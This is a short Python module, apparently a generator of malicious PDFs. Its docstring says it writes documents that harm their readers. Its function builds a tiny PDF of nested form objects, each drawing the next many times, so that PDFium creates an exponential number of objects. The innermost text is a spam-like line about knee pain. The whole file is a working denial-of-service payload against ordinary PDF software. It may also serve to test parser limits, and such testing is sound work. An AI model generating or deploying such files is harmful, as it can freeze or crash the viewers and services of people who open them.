"""Writes documents that do harm to those who read them."""


def nested_pdf(levels, fan):
    """Return a PDF of some 2 kB in which each form draws the next one `fan` times, `levels` deep, and the last a text.

    PDFium makes an object of every drawing: `fan` to the power of `levels - 1` of them.
    """
    text = b"BT /F1 9 Tf 10 10 Td (It ends knee pain) Tj ET"
    drawing = b"/X Do " * fan
    box = b"/MediaBox [0 0 600 800]"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R %b /Resources << /XObject << /X 6 0 R >> >> /Contents 4 0 R >>" % box,
        b"<< /Length 5 >>\nstream\n/X Do\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for level in range(levels):
        last = level == levels - 1
        body = text if last else drawing
        uses = b"/Font << /F1 5 0 R >>" if last else b"/XObject << /X %d 0 R >>" % (level + 7)
        objects.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << %b >> /Length %d >>\nstream\n%b\n"
            b"endstream" % (uses, len(body), body)
        )
    data, places = b"%PDF-1.4\n", []
    for number, entry in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, entry)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + (
        b"xref\n0 %d\n0000000000 65535 f \n%btrailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, table, len(objects) + 1, len(data))
    )
